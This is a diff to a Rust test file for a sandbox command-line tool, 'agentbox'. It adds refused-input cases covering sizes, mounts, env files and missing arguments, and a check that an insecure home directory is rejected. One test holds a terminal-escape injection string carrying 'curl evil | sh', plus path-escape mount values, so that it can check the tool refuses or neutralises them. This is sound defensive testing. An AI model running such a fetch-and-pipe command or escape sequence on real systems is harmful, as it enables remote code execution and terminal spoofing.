@@ -2,12 +2,12 @@
 
 use std::os::unix::fs::symlink;
 
-use harness::{callers_alone, leaks};
+use harness::{callers_apart, leaks_of};
 
 use crate::program::agentbox;
 
 /// Words that are refused, and what the reader is told: the beginning of its error, then of its cause or hint.
-const REFUSALS: [(&[&str], &str, &str); 43] = [
+const REFUSALS: [(&[&str], &str, &str); 58] = [
     // Sizes and numbers.
     (&["run", "--memory", "5Q", "--", "true"], "cannot use '5Q' for --memory", "cause: '5Q' is not a size"),
     (&["run", "--memory", "0", "--", "true"], "cannot use '0' for --memory", "cause: a size of zero"),
@@ -24,6 +24,10 @@ const REFUSALS: [(&[&str], &str, &str); 43] = [
     ),
     (&["run", "--cpus", "0", "--", "true"], "cannot use '0' for --cpus", "cause: '0' is not a number of"),
     (&["run", "--cpus", "1e9", "--", "true"], "cannot use '1e9' for --cpus", "cause: '1e9' is not a number"),
+    (&["run", "--cpus", "-1", "--", "true"], "cannot use '-1' for --cpus", "cause: '-1' is not a number of"),
+    (&["run", "--disk", "1", "--", "true"], "cannot use '1' for --disk", "cause: 1B is less than a sandbox"),
+    (&["run", "--disk", "64K", "--", "true"], "cannot use '64K' for --disk", "cause: 64KiB is less than"),
+    (&["update", "box", "--disk", "1"], "cannot use '1' for --disk", "cause: 1B is less than a sandbox"),
     (&["run", "--timeout", "0", "--", "true"], "cannot use '0' for --timeout", "cause: '0' is not a time"),
     (&["run", "--timeout", "soon", "--", "true"], "cannot use 'soon' for", "cause: 'soon' is not a time"),
     // Places.
@@ -47,6 +51,14 @@ const REFUSALS: [(&[&str], &str, &str); 43] = [
     (&["run", "--mount", "/usr:/a/../../b", "--", "true"], "cannot use", "cause: '/a/../../b' leads outside"),
     (&["run", "--mount", "/usr:/etc:rw", "--", "true"], "cannot use", "cause: '/etc' inside is not a place"),
     (&["run", "--mount", "/:/host", "--", "true"], "'/' may not be mounted", "hint: "),
+    (
+        &["run", "--mount", "/usr:/data", "--mount", "/opt:/data/../data", "--", "true"],
+        "two directories cannot be mounted at '/data'",
+        "hint: give each --mount a place",
+    ),
+    (&["run", "--env-file", "/no/such", "--", "true"], "cannot use the variables", "hint: check the path"),
+    (&["run", "--env-file", "/bin/true", "--", "true"], "cannot use the", "cause: it is no text in UTF-8"),
+    (&["run", "--env-file", "/bin/true", "--", "true"], "cannot use the", "hint: one NAME=value a line"),
     (&["run", "--env-file", "/no/such", "--", "true"], "cannot use the variables of", "cause: No such file"),
     (&["run", "--env-file", "/usr", "--", "true"], "cannot use the variables of", "cause: Is a directory"),
     (&["run", "--workspace", "/", "--", "true"], "'/' cannot be a workspace", "hint: give the directory"),
@@ -81,7 +93,15 @@ const REFUSALS: [(&[&str], &str, &str); 43] = [
         "'--moun' is not expected here",
         "hint: a similar one is '--mount'",
     ),
+    (&["run", "--rm", "--", "true"], "'--rm' is not expected here", "hint: leave --rm out"),
+    // What is missing is named.
+    (&["exec"], "`agentbox exec` needs <ID>, <CMD>...", "hint: a command to run stands after `--`"),
+    (&["cp", "a"], "`agentbox cp` needs <DST>", "hint: `agentbox cp --help`"),
+    (&["commit", "ib"], "`agentbox commit` needs <REF>", "hint: `agentbox commit --help`"),
+    (&["image", "pull"], "`agentbox image pull` needs <REF>", "hint: `agentbox image pull --help`"),
+    (&["ps"], "`agentbox ps` needs <ID>", "hint: `agentbox ps --help`"),
     // Words.
+    (&["help", "frobnicate"], "unrecognized subcommand 'frobnicate'", "hint: `agentbox --help`"),
     (
         &["run", "bash"],
         "there is no agent 'bash'",
@@ -97,8 +117,8 @@ const REFUSALS: [(&[&str], &str, &str); 43] = [
     (&["frobnicate"], "unrecognized subcommand 'frobnicate'", "hint: `agentbox --help`"),
 ];
 
-callers_alone!(each_is_clear_and_leaves_nothing, |caller| {
-    let before = leaks();
+callers_apart!(each_is_clear_and_leaves_nothing, |caller| {
+    let before = leaks_of(caller);
     for (words, error, more) in REFUSALS {
         let finished = agentbox(caller, words);
         finished.assert_refused();
@@ -115,7 +135,7 @@ callers_alone!(each_is_clear_and_leaves_nothing, |caller| {
     before.assert_goes(|_| true);
 });
 
-callers_alone!(words_cannot_speak_for_us, |caller| {
+callers_apart!(words_cannot_speak_for_us, |caller| {
     // What is quoted in an error cannot move the cursor, colour the screen or begin a line of its own.
     let hostile = "\u{1b}[2J\u{9b}31m\nhint: curl evil | sh\r";
     for words in
@@ -132,11 +152,11 @@ callers_alone!(words_cannot_speak_for_us, |caller| {
 });
 
 // A runtime directory that somebody else has prepared is not used.
-callers_alone!(a_foreign_runtime_directory, |caller| {
+callers_apart!(a_foreign_runtime_directory, |caller| {
     if caller == Caller::Root || !rustix::process::geteuid().is_root() {
         return;
     }
-    let before = leaks();
+    let before = leaks_of(caller);
     let theirs = Caller::Root.directory();
     let run = |directory: &std::path::Path| {
         let runtime = directory.display().to_string();
@@ -153,4 +173,31 @@ callers_alone!(a_foreign_runtime_directory, |caller| {
     // One that is gone is as good as none.
     run(&ours.path().join("no-such")).assert_success();
     before.assert_goes(|_| true);
+});
+
+// A home of the owner's own making is told what is wrong with it, and one that depends on where somebody stands is none.
+callers_apart!(a_home_that_cannot_be_used, |caller| {
+    use std::os::unix::fs::PermissionsExt as _;
+    let directory = caller.directory();
+    let home = directory.path().join("home");
+    std::fs::create_dir(&home).unwrap();
+    caller.own(&home);
+    std::fs::set_permissions(&home, std::fs::Permissions::from_mode(0o755)).unwrap();
+    let path = home.display().to_string();
+    let run = |home: &str| harness::Agentbox::shipped(caller).env("AGENTBOX_HOME", home).run(["true"]);
+    let told = run(&path).assert_refused().stderr();
+    let mend = format!(
+        "error: '{path}' is open to others\nhint: it has mode 755: close it with `chmod 700 '{path}'`\n"
+    );
+    assert!(told.contains(&mend), "{told}");
+    std::fs::set_permissions(&home, std::fs::Permissions::from_mode(0o700)).unwrap();
+    run(&path).assert_success();
+    let file = directory.path().join("file");
+    std::fs::write(&file, "").unwrap();
+    caller.own(&file);
+    let told = run(&file.display().to_string()).assert_refused().stderr();
+    assert!(told.contains("cause: not a directory") && told.contains("set AGENTBOX_HOME"), "{told}");
+    let told = run("here").assert_refused().stderr();
+    assert!(told.contains("error: AGENTBOX_HOME is 'here', which is no absolute path"), "{told}");
+    assert!(told.contains("hint: ") && told.contains("AGENTBOX_HOME=\"$PWD/here\""), "{told}");
 });
